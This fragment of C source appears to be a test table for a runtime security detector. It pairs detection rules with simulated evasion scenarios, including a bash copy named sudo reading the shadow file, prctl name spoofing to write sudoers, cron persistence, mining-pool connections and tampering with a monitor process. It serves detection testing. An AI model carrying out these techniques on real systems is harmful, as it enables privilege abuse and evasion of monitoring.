	{ "Kernel module load under a sandboxed loader's name", claimed_udevd_loads_module,
	  IN_CONTAINER, NULL, NULL, { NULL }, NULL },
	{ "Write below sudoers", claimed_dpkg_writes_sudoers, 0, "/etc/sudoers.d", NULL, { NULL },
	  "as dpkg by prctl(PR_SET_NAME)" },
	{ "Read sensitive file untrusted", copied_sudo_reads_shadow, 0, NULL, NULL, { NULL },
	  "by a copy of bash named sudo" },
	{ "Write to cron configuration", copied_dpkg_writes_cron, 0, NULL, NULL, { NULL },
	  "by a copy of bash named dpkg" },
	{ "Program written to a binary directory", below_copied_dpkg_drops_program, 0, NULL, NULL,
	  { NULL }, "below a copy of bash named dpkg" },
	HOST("Connection opened through sendto or sendmsg", fastopen_mining_pool),
	HOST("Signal sent to vigil through a pidfd or a signal queue", pidfd_signal_vigil),
	HOST("Memory of vigil read or written", vm_read_vigil),
};

const size_t nscenarios = sizeof(scenarios) / sizeof(scenarios[0]);
